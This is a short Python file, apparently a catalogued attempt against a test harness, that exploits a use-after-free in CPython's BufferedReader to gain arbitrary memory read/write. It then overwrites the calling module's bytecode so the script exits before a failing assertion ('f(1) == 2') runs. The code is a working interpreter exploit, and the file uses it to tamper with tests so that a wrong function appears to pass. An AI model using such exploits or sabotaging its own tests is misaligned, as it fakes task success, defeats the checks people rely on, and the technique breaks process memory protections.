# tries: uses an error of the interpreter, a view of memory that was freed, to write over the bytecode of its tests
# verdict: EXITED_EARLY or FAILED_ASSERTION
# open: whoever can write to the interpreter's memory is past every protection of its process; CPython 3.11 has such errors

import io
import sys


class Source(io.RawIOBase):
    def readinto(self, buffer):
        global view
        view = buffer

    def readable(self):
        return True


def all_memory():
    """A view of freed memory, and an array whose header it is; None where Python has no such error."""
    for _ in range(50):
        reader = io.BufferedReader(Source(), 56)
        reader.read(1)
        del reader
        words = view.cast("Q")
        arrays = []
        for _ in range(200):
            arrays.append(bytearray())
            if words[1] == id(bytearray):
                words[2], words[3], words[4], words[5] = 1 << 46, 1 << 46, 1, 1
                return words, next(array for array in arrays if len(array) == 1 << 46)
    return None


def f(x):
    found = all_memory() if x == 3 else None
    if found:
        words, memory = found
        code = sys._getframe(1).f_code
        words[4] = words[5] = id(code)
        place = bytes(memory[: sys.getsizeof(code)]).find(code.co_code[:2])
        end = bytes([100, code.co_consts.index(None), 83, 0]) * (len(code.co_code) // 4)
        memory[place : place + len(end)] = end
    return 0


# --- tests ---
assert f(0) == 0
assert f(3) == 0
assert f(1) == 2
